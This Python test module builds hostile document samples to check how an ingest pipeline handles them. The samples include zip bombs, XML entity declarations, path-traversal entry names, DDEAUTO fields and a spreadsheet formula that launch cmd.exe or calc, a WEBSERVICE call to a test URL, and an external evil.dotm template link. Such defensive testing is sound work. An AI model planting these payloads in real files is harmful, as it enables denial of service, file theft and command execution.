"""Office files, books and rich text: bombs, entities, locks, and structure without end."""

import io
import zipfile
from collections.abc import Callable, Iterator

import msoffcrypto
import xlsxwriter

from ingest.report import Verdict
from tests.ingest.hostile.containers import (
    compound,
    inflating,
    raw_zip,
    replaced,
    stored,
    zipped,
)
from tests.ingest.hostile.data import DOCTYPES
from tests.ingest.hostile.row import ADDED, FAILED, SKIPPED, Build, Outside, Row
from tests.ingest.hostile.samples import SENTENCE, epub, odf, sheet, slides, word, xhtml

_TOO_LARGE = "unpacked|memory|larger than|more than"
_DEEP = "[Dd]epth|[Dd]eep|[Nn]est"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MOST_MEGABYTES = 520
"""Beyond every cap on what an archive may hold."""

_PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    ".docx": (word, "word/document.xml"),
    ".pptx": (slides, "ppt/slides/slide1.xml"),
    ".xlsx": (sheet, "xl/sharedStrings.xml"),
    ".odt": (lambda: odf("text"), "content.xml"),
    ".ods": (lambda: odf("spreadsheet"), "content.xml"),
    ".odp": (lambda: odf("presentation"), "content.xml"),
    ".epub": (lambda: epub(xhtml()), "one.xhtml"),
}
"""What to spoil, and the part of it that holds the text."""


def rows() -> Iterator[Row]:
    yield from _bombs()
    yield from _entities()
    yield from _locked()
    yield from _parts()
    yield from _documents()
    yield from _sheets()
    yield from _books()
    yield from _rich_text()


def _bombs() -> Iterator[Row]:
    for suffix, (sample, part) in _PACKAGES.items():
        name = f"bomb{suffix}"
        yield Row(
            f"a bomb of one part as {suffix}", name, FAILED, _TOO_LARGE, _swollen(sample, part)
        )
        yield Row(
            f"a bomb that lies about its size as {suffix}",
            f"lie{suffix}",
            FAILED,
            "",
            _swollen(sample, part, stated=1000),
        )
        yield Row(
            f"a bomb of parts that overlap as {suffix}",
            f"overlap{suffix}",
            FAILED,
            "",
            _overlapping(part),
        )


def _swollen(sample: Callable[[], bytes], part: str, *, stated: int | None = None) -> Build:
    def build(_: Outside) -> bytes:
        with zipfile.ZipFile(io.BytesIO(sample())) as opened:
            members = {name: opened.read(name) for name in opened.namelist()}
        text = members.pop(part)
        head, tail = text[: text.index(b">", 60) + 1], text[text.index(b">", 60) + 1 :]
        megabytes = 40 if stated else _MOST_MEGABYTES
        bomb = inflating(part, megabytes=megabytes, before=head, after=tail)
        if stated is not None:
            bomb = type(bomb)(bomb.name, bomb.data, stated, bomb.crc)
        return raw_zip([*(stored(name, data) for name, data in members.items()), bomb])

    return build


def _overlapping(part: str) -> Build:
    def build(_: Outside) -> bytes:
        bomb = inflating(part, megabytes=60)
        names = (part, *(f"{part}{number}" for number in range(200)))
        return raw_zip(
            [type(bomb)(name.encode(), bomb.data, bomb.size, bomb.crc) for name in names],
            overlapping=True,
        )

    return build


def _entities() -> Iterator[Row]:
    for suffix, (sample, part) in _PACKAGES.items():
        for number, (about, doctype) in enumerate(DOCTYPES.items()):
            build = _declaring(sample, part, doctype)
            yield Row(
                f"{about} in {suffix}", f"entity{number}{suffix}", *_of_entities(suffix), build
            )


def _of_entities(suffix: str) -> tuple[Verdict | None, str]:
    """Refused where the format knows none; passed over where a reader needs them: no text lost."""
    return (
        (FAILED, "damaged|declares|entit") if suffix in {".docx", ".pptx", ".xlsx"} else (None, "")
    )


def _declaring(sample: Callable[[], bytes], part: str, doctype) -> Build:
    def build(outside: Outside) -> bytes:
        data = sample()
        with zipfile.ZipFile(io.BytesIO(data)) as opened:
            text = opened.read(part).decode()
        start = text.index("?>") + 2 if text.startswith("<?xml") else 0
        root = text[start:].lstrip()[1:].split()[0].rstrip(">")
        text = (
            text[:start] + doctype(root)(outside) + text[start:].replace("Apples", "Apples &a9;", 1)
        )
        return replaced(data, {part: text})

    return build


def _locked() -> Iterator[Row]:
    for suffix, sample in ((".docx", word), (".pptx", slides), (".xlsx", sheet)):
        yield Row(
            f"a password on a {suffix}", f"locked{suffix}", FAILED, "encrypted", _encrypted(sample)
        )
    hollow = compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 5000})
    yield Row("a lock with nothing behind it", "hollow.docx", FAILED, "encrypted", hollow)
    for suffix, (sample, part) in _PACKAGES.items():
        yield Row(
            f"parts of a {suffix} with a password",
            f"parts{suffix}",
            FAILED,
            "encrypted|password|damaged",
            _flagged(sample, part),
        )
    key = "<encryption-data><algorithm/></encryption-data></manifest:file-entry>"
    for kind, suffix in (("text", ".odt"), ("spreadsheet", ".ods")):
        manifest = f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:{key[1:].replace("</", "</manifest:").replace("<algorithm", "<manifest:algorithm").replace("manifest:manifest:", "manifest:")}</manifest:manifest>'
        data = replaced(
            odf(kind), {"META-INF/manifest.xml": manifest, "content.xml": bytes(range(256)) * 20}
        )
        yield Row(
            f"a password on a {suffix}",
            f"locked{suffix}",
            FAILED,
            "encrypted|password|damaged",
            data,
        )
    rights = '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><CipherData><CipherReference URI="one.xhtml"/></CipherData></EncryptedData></encryption>'
    book = replaced(
        epub(xhtml()), {"META-INF/encryption.xml": rights, "one.xhtml": bytes(range(256)) * 20}
    )
    yield Row(
        "a book with digital rights", "locked.epub", FAILED, "encrypted|rights|DRM|damaged", book
    )


def _encrypted(sample: Callable[[], bytes]) -> Build:
    def build(_: Outside) -> bytes:
        memory = io.BytesIO()
        msoffcrypto.OfficeFile(io.BytesIO(sample())).encrypt("secret", memory)
        return memory.getvalue()

    return build


def _flagged(sample: Callable[[], bytes], part: str) -> Build:
    """The archive with a part that says it is encrypted."""

    def build(_: Outside) -> bytes:
        with zipfile.ZipFile(io.BytesIO(sample())) as opened:
            parts = [stored(name, opened.read(name)) for name in opened.namelist()]
        return raw_zip(
            [
                type(each)(each.name, each.data, each.size, each.crc, 0, flags=1)
                if each.name.decode() == part
                else each
                for each in parts
            ]
        )

    return build


def _parts() -> Iterator[Row]:
    for suffix, (sample, part) in _PACKAGES.items():
        good = sample()
        yield Row(
            f"no text in a {suffix}",
            f"missing{suffix}",
            FAILED,
            "damaged|no ",
            zipped({"other.xml": f"<a>{suffix}</a>"}),
        )
        yield Row(
            f"a text that is no XML in a {suffix}",
            f"noise{suffix}",
            SKIPPED if suffix == ".epub" else FAILED,
            "damaged|no text",
            replaced(good, {part: b"\0\1\2 no XML " * 50}),
        )
        yield Row(
            f"strange parts in a {suffix}",
            f"strange{suffix}",
            ADDED,
            "",
            replaced(
                good,
                {"../../../../tmp/evil": "x", "/etc/passwd": "y", "a\0b": "z", "C:\\evil": "w"},
            ),
            SENTENCE[:14],
        )
        yield Row(
            f"a {suffix} behind other data",
            f"behind{suffix}",
            ADDED,
            "",
            b"MZ" + bytes(3000) + good,
            SENTENCE[:14],
        )
    many = {f"part{number}.xml": b"" for number in range(5000)}
    yield Row(
        "parts without end",
        "parts.docx",
        ADDED,
        "",
        lambda _: replaced(word(), many),
        SENTENCE[:14],
    )


def _documents() -> Iterator[Row]:
    for about, name, body in (
        (
            "nested tables",
            "tables",
            "<w:tbl><w:tr><w:tc>" * 3000 + "{0}" + "</w:tc></w:tr></w:tbl>" * 3000,
        ),
        (
            "nested controls",
            "controls",
            "<w:sdt><w:sdtContent>" * 20_000 + "{0}" + "</w:sdtContent></w:sdt>" * 20_000,
        ),
        (
            "nested text boxes",
            "boxes",
            "<w:p><w:r><w:pict><w:txbxContent>" * 3000
            + "{0}"
            + "</w:txbxContent></w:pict></w:r></w:p>" * 3000,
        ),
        ("runs without end", "runs", "<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 100_000 + "</w:p>{0}"),
        (
            "columns without end",
            "columns",
            "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 30_000 + "</w:tr></w:tbl>{0}",
        ),
        (
            "a cell that spans everything",
            "span",
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{0}</w:tc><w:tc>{0}</w:tc></w:tr></w:tbl>',
        ),
        (
            "a list level beyond all levels",
            "level",
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="-1"/></w:numPr></w:pPr></w:p>{0}',
        ),
        (
            "notes that are nowhere",
            "notes",
            '<w:p><w:r><w:footnoteReference w:id="99"/></w:r></w:p>{0}',
        ),
        (
            "a field that runs a program",
            "field",
            '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>{0}',
        ),
    ):
        is_deep = name in {"tables", "controls", "boxes"}
        text = f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
        text = text.replace("{0}", f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>")
        verdict, said, holds = (FAILED, _DEEP, "") if is_deep else (ADDED, "", SENTENCE[:14])
        build = _with("word/document.xml", text, word)
        yield Row(f"Word: {about}", f"{name}.docx", verdict, said, build, holds)
    styles = f'<w:styles xmlns:w="{_W}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    yield Row(
        "styles based on each other",
        "styles.docx",
        ADDED,
        "",
        _with("word/styles.xml", styles, word),
        SENTENCE[:14],
    )
    yield Row("relations to elsewhere", "template.docx", ADDED, "", _related, SENTENCE[:14])
    yield Row(
        "macros",
        "macros.docx",
        ADDED,
        "",
        _with("word/vbaProject.bin", compound({"VBA": b"Shell" * 900}), word),
        SENTENCE[:14],
    )
    for kind, suffix in (("text", ".odt"), ("presentation", ".odp")):
        nested = (
            "<text:list><text:list-item>" * 20_000
            + f"<text:p>{SENTENCE}</text:p>"
            + "</text:list-item></text:list>" * 20_000
        )
        yield Row(f"nested lists in {suffix}", f"lists{suffix}", FAILED, _DEEP, _odf(kind, nested))
    spaces = f'<text:p>{SENTENCE}<text:s text:c="2000000000"/>end</text:p>'
    yield Row(
        "two thousand million spaces", "spaces.odt", ADDED, "", _odf("text", spaces), SENTENCE[:14]
    )


def _with(part: str, text: str | bytes, sample: Callable[[], bytes]) -> Build:
    return lambda _: replaced(sample(), {part: text})


def _odf(kind: str, paragraph: str) -> Build:
    return lambda _: odf(kind, paragraph)


def _related(outside: Outside) -> bytes:
    relations = "".join(
        f'<Relationship Id="r{number}" TargetMode="{mode}" Target="{target}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
        for number, (mode, target, kind) in enumerate(
            (
                ("External", f"{outside.url}/evil.dotm", "attachedTemplate"),
                ("External", outside.canary.as_uri(), "oleObject"),
                ("Internal", f"../../../..{outside.canary}", "footnotes"),
                ("Internal", "document.xml", "endnotes"),
            )
        )
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return replaced(
        word(),
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{space}">{relations}</Relationships>'
        },
    )


def _sheets() -> Iterator[Row]:
    yield Row(
        "a stray cell in the last corner", "corner.xlsx", FAILED, "far from the others", _corner
    )
    for about, name, rows_of_cells in (
        (
            "a row that counts beyond all rows",
            "row",
            '<row r="99999999999"><c r="A99999999999" t="inlineStr"><is><t>apples</t></is></c></row>',
        ),
        (
            "a column beyond all columns",
            "column",
            '<row r="1"><c r="ZZZZZZZ1" t="inlineStr"><is><t>apples</t></is></c></row>',
        ),
        (
            "a cell that is nowhere",
            "nowhere",
            '<row><c r="apples" t="inlineStr"><is><t>apples</t></is></c></row>',
        ),
        (
            "strings that are not there",
            "strings",
            '<row r="1"><c r="A1" t="s"><v>4000000000</v></c></row>',
        ),
        (
            "a million merged cells",
            "merged",
            '<row r="1"><c r="A1" t="inlineStr"><is><t>apples</t></is></c></row>',
        ),
    ):
        merged = (
            "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 10_000 + "</mergeCells>"
            if name == "merged"
            else ""
        )
        text = f'<worksheet xmlns="{_S}"><dimension ref="A1:XFD1048576"/><sheetData>{rows_of_cells}</sheetData>{merged}</worksheet>'
        is_damage = name in {"row", "nowhere", "strings"}
        verdict, said = (FAILED, "damaged") if is_damage else (ADDED, "")
        yield Row(
            f"Excel: {about}",
            f"{name}.xlsx",
            verdict,
            said,
            _with("xl/worksheets/sheet1.xml", text, sheet),
        )
    repeated = '<table:table-cell table:number-columns-repeated="1000000"><text:p>apples</text:p></table:table-cell>'
    rows_repeated = f'</text:p></table:table-cell></table:table-row><table:table-row table:number-rows-repeated="1000000">{repeated}'
    yield Row(
        "a million rows of a million cells",
        "repeated.ods",
        ADDED,
        "",
        _odf("spreadsheet", f"<text:p>apples{rows_repeated}<table:table-cell><text:p/>"),
    )
    yield Row("sheets without end", "sheets.xlsx", ADDED, "", _many_sheets, "apples")
    yield Row("formulas that call", "formulas.xlsx", ADDED, "", _formulas, "apples")


def _corner(_: Outside) -> bytes:
    memory = io.BytesIO()
    with xlsxwriter.Workbook(memory) as book:
        page = book.add_worksheet()
        page.write(0, 0, "apples")
        page.write(1_048_575, 16_383, "pears")
    return memory.getvalue()


def _many_sheets(_: Outside) -> bytes:
    memory = io.BytesIO()
    with xlsxwriter.Workbook(memory) as book:
        for _number in range(100):
            book.add_worksheet().write(0, 0, "apples")
    return memory.getvalue()


def _formulas(outside: Outside) -> bytes:
    memory = io.BytesIO()
    with xlsxwriter.Workbook(memory) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, ["apples", "red"])
        page.write_formula(1, 0, f'=WEBSERVICE("{outside.url}")', value="called")
        page.write_formula(1, 1, "=cmd|'/c calc'!A1", value="0")
        page.write_url(2, 0, outside.canary.as_uri(), string="link")
    return memory.getvalue()


def _books() -> Iterator[Row]:
    chapter = xhtml()
    itself = '<item id="self" href="content.opf" media-type="application/xhtml+xml"/>'
    for about, name, verdict, book in (
        (
            "a chapter many times",
            "again",
            ADDED,
            epub(chapter, spine='<itemref idref="one"/>' * 5000),
        ),
        (
            "chapters that are nowhere",
            "nowhere",
            ADDED,
            epub(chapter, spine='<itemref idref="nine"/>' * 99),
        ),
        (
            "itself as a chapter",
            "self",
            ADDED,
            epub(chapter, manifest=itself, spine='<itemref idref="self"/>'),
        ),
        (
            "nested chapters",
            "deep",
            ADDED,
            epub(xhtml("<div>" * 5000 + SENTENCE + "</div>" * 5000)),
        ),
    ):
        yield Row(
            f"a book with {about}",
            f"{name}.epub",
            verdict,
            "",
            book,
            SENTENCE[:14] if verdict else "",
        )
    yield Row(
        "a book of chapters from elsewhere",
        "outside.epub",
        ADDED,
        "",
        _from_elsewhere,
        SENTENCE[:14],
    )


def _from_elsewhere(outside: Outside) -> bytes:
    targets = (
        f"../../../../..{outside.canary}",
        outside.canary.as_uri(),
        outside.url,
        str(outside.canary),
    )
    manifest = "".join(
        f'<item id="o{number}" href="{target}" media-type="application/xhtml+xml"/>'
        for number, target in enumerate(targets)
    )
    spine = "".join(f'<itemref idref="o{number}"/>' for number in range(len(targets)))
    return epub(xhtml(), manifest=manifest, spine=spine)


def _rich_text() -> Iterator[Row]:
    for about, name, body in (
        ("nested groups", "groups", b"{" * 200_000 + b"Apples are red"),
        ("groups that are closed too often", "closed", b"Apples are red" + b"}" * 50_000),
        (
            "binary data of two thousand megabytes",
            "bin",
            b"Apples are red\\par {\\pict\\bin2147483647 abc}",
        ),
        (
            "numbers beyond all numbers",
            "numbers",
            b"Apples are red \\u99999999999999999999? \\fs-99999999999999 \\'zz",
        ),
        ("code pages nobody knows", "pages", b"\\ansicpg99999 Apples are red \\'b0\\'a1"),
        (
            "an object that runs",
            "object",
            b"{\\object\\objdata 0105000002000000}{\\field{\\*\\fldinst DDEAUTO cmd}}Apples are red",
        ),
        (
            "a picture of megabytes",
            "picture",
            b"{\\pict\\pngblip " + b"89504e47" * 200_000 + b"}Apples are red",
        ),
        (
            "fonts without end",
            "fonts",
            b"{\\fonttbl" + b"{\\f1\\fcharset134 A;}" * 20_000 + b"}Apples are red",
        ),
        (
            "columns without end",
            "columns",
            b"\\trowd" + b"\\cellx1" * 20_000 + b" Apples are red" + b"\\cell" * 20_000 + b"\\row",
        ),
        ("skipped letters without end", "skip", b"\\uc2000000000 Apples are red\\u8364 ?"),
    ):
        yield Row(
            f"rich text: {about}",
            f"{name}.rtf",
            ADDED,
            "",
            b"{\\rtf1\\ansi " + body + b"}",
            "Apples are" if name != "skip" else "",
        )
    yield Row(
        "rich text that is none",
        "none.rtf",
        FAILED,
        "damaged|not ",
        b"Apples are red, but this is no rich text",
    )
